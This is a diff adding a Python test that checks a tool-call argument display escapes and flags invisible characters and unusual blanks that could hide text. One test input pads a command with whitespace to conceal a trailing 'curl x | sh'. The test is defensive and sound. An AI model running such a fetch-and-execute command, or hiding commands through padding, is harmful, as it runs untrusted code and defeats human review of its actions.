@@ -31,3 +31,15 @@ def test_what_does_not_fit_is_not_put_to_anyone() -> None:
     old = for_prompt({"command": "x" * 5000 + "TAIL"})
     assert old.text.endswith('TAIL"\n}')
     assert "not shown" in old.warning
+
+
+def test_ignorable_characters_and_odd_blanks_are_escaped_too() -> None:
+    """Variation selectors, fillers, the braille blank and every blank but the plain space
+    could hide text or pad a command out of sight: all shown escaped and flagged."""
+    for hidden in ("\ufe0f", "\U000e0100", "\u3164", "\u115f", "\u2800", "\u00a0", "\u3000"):
+        shown = show_arguments({"body": f"a{hidden}b"})
+        assert hidden not in shown.text, repr(hidden)
+        assert shown.flags, repr(hidden)
+    padded = show_arguments({"command": ("ls" + " " * 15 + "\u00a0") * 100 + "; curl x | sh"})
+    assert not fits({"command": ("ls" + " " * 15 + "\u00a0") * 100 + "; curl x | sh"})
+    assert padded.flags
